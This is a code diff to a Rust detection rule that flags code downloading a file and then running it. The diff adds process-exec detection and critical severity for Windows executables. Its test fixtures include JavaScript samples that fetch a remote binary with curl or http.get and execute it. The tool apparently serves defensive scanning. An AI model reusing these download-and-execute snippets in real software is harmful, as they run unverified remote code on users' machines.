@@ -9,8 +9,9 @@ declare_rule! {
     /// response written or piped to a file that a later command starts, or a
     /// shell script that fetches with `curl -o`/`wget -O`/`certutil` and
     /// then runs the result. Critical at install, and at run time when the
-    /// file lands in a temporary folder from a computed, raw-IP or plain
-    /// `http://` source; high otherwise (tools fetch their own binaries).
+    /// file is a Windows program (`.exe`, `.scr`, `.ps1`...) or lands in a
+    /// temporary folder from a computed, raw-IP or plain `http://` source;
+    /// high otherwise (tools fetch their own binaries).
     ///
     /// ## Why is this bad?
     /// The program that runs is whatever the server sends that day; nothing in
@@ -112,6 +113,11 @@ impl Rule for DownloadAndRun {
         downloads.extend(ctx.facts.scripts.iter().filter_map(|s| {
             shell_download_target(&s.command).map(|t| (basename(t).to_ascii_lowercase(), &s.at))
         }));
+        // `exec('curl -o x.exe https://…')` from code.
+        downloads.extend(ctx.facts.processes.iter().filter_map(|p| {
+            let cmd = p.command.as_deref()?;
+            shell_download_target(cmd).map(|t| (basename(t).to_ascii_lowercase(), &p.at))
+        }));
         downloads.retain(|(name, _)| name.len() > 1 && name != "*");
         if downloads.is_empty() {
             return;
@@ -189,7 +195,14 @@ impl Rule for DownloadAndRun {
                     continue;
                 }
                 let install = at.install_time || dl.install_time;
-                let severity = if install || hidden_drop(ctx, name, dl) {
+                // A Windows program opened with `start` (or by name) right
+                // after it was downloaded: a dropper, not a tool's binary.
+                let windows_program = [
+                    ".exe", ".scr", ".msi", ".bat", ".cmd", ".ps1", ".vbs", ".hta",
+                ]
+                .iter()
+                .any(|e| name.ends_with(e));
+                let severity = if install || windows_program || hidden_drop(ctx, name, dl) {
                     Severity::Critical
                 } else {
                     Severity::High
@@ -226,6 +239,9 @@ mod tests {
                 ]),
                 Case::Js(
                     "const http = require('http'), fs = require('fs'), cp = require('child_process');\nhttp.get('https://x.invalid/bin', (res) => {\n  res.pipe(fs.createWriteStream('./bin/tool'));\n  res.on('end', () => cp.execFile('./bin/tool', ['--version']));\n});",
+                ),
+                Case::Js(
+                    "const { exec } = require('child_process');\nconst url = 'https://x.invalid/client.exe';\nfunction fetchAndOpen(u, dest) {\n  exec(`curl -o ${dest} ${u}`, (err) => { if (!err) exec(`start ${dest}`); });\n}\nfetchAndOpen(url, 'client.exe');",
                 ),
                 Case::Js(
                     "const http = require('http'), fs = require('fs'), cp = require('child_process');\nhttp.get('http://x.invalid/bin', (res) => {\n  res.pipe(fs.createWriteStream('/tmp/glomus'));\n  res.on('end', () => cp.exec('/tmp/glomus'));\n});",
